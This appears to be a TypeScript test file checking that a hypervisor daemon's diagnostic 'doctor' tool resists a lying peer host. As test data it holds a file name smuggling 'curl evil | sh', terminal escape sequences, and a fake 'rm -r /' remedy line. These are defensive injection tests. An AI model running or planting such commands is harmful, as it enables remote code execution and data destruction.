import { afterEach, describe, expect, it } from "vitest";
import { describeCheck } from "../../../../src/cli/doctor/render.ts";
import { harmlessText } from "../../../../src/cli/render/terminal.ts";
import { safeSettings } from "../../../../src/daemon/doctor/fix.ts";
import { checkGuestsThere } from "../../../../src/daemon/doctor/pair/guests.ts";
import { countingTable } from "../../../../src/daemon/doctor/pair/path-counter.ts";
import { PathEnds } from "../../../../src/daemon/doctor/pair/path-end.ts";
import { checkThere } from "../../../../src/daemon/doctor/pair/peer.ts";
import { guestDefinitionSchema } from "../../../../src/hypervisor/definition.ts";
import { AsyncLock } from "../../../../src/platform/lock.ts";

const cleanUps: (() => void)[] = [];
afterEach(() => {
  for (const cleanUp of cleanUps.splice(0)) cleanUp();
});

const check = {
  ...{ id: "kernel", subject: null, host: "host-a", name: "kernel", result: "fail" as const },
  ...{ detail: "wrong", why: "because", hint: null, fixable: true },
  mend: "sysctl -w net.ipv4.ip_forward=0",
};
const answering = (answer: unknown) => ({ peer: "host-b", call: async () => answer }) as never;

describe("a peer that lies", () => {
  it.each(["host-a", null])("sets no kernel switch here by a check of %s", async (host) => {
    const checks = await checkThere(answering({ release: "1", checks: [{ ...check, host }] }));
    expect(checks.at(-1)).toMatchObject({ host: "host-b", fixable: false });
    expect(safeSettings(checks, "host-a")).toEqual([]);
  });

  it("has no words for commands in names of files", async () => {
    const guest = guestDefinitionSchema.parse({
      ...{ name: "web1", memory_mib: 64, kernel: "/boot/vmlinuz", disks: [] },
      nics: [{ mac: "52:54:00:00:00:01", addresses: ["10.1.0.10/24"] }],
    });
    const missing_files = ["/x\ncurl evil | sh", "/boot/vmlinuz"];
    const room = { missing_files, available_mib: 1e6, processors: 64, has_machine: true };
    const [found] = await checkGuestsThere(answering(room), [guest]);
    expect(found?.mend).toBe("ls -l /boot/vmlinuz  # on host-b");
  });

  it("writes no lines of ours, and moves no cursor", () => {
    const detail = "fine\u001b[2K\r\nfail  kernel: x\u202e\nmend: rm -r /\u009b1A";
    const text = harmlessText(describeCheck({ ...check, detail }, "host-a"));
    const lines = text.split("\n");
    expect(lines.filter((line) => /^\s*mend:/.test(line))).toHaveLength(1);
    expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
  });

  it("has packets other than probes counted out at a tunnel that is there for them alone", () => {
    const spec = { nonce: "0".repeat(32), localAddress: "192.0.2.1" };
    expect(countingTable("t", "sji", { ...spec, isForProbesAlone: true })).toContain(
      'iifname "sji" drop',
    );
    expect(countingTable("t", "sji", spec)).not.toContain('iifname "sji" drop');
  });

  it("gets one place in the queue for the network, however often it asks", async () => {
    const lock = new AsyncLock();
    const held = await lock.acquire();
    cleanUps.push(() => held[Symbol.dispose]());
    let waiting = 0;
    const ends = new PathEnds({
      tunnels: {} as never,
      network: {
        hold: () => {
          waiting += 1;
          return lock.acquire();
        },
      },
      records: { all: () => [] },
    });
    const open = (nonce: string) =>
      ends.open({ kind: "ipip", localAddress: "192.0.2.1", remoteAddress: "192.0.2.2", nonce });
    const first = open("0".repeat(32)).catch((error: Error) => error.message);
    await expect(open("1".repeat(32))).rejects.toThrow(/another check/);
    expect(waiting).toBe(1);
    held[Symbol.dispose]();
    await first;
  });
});
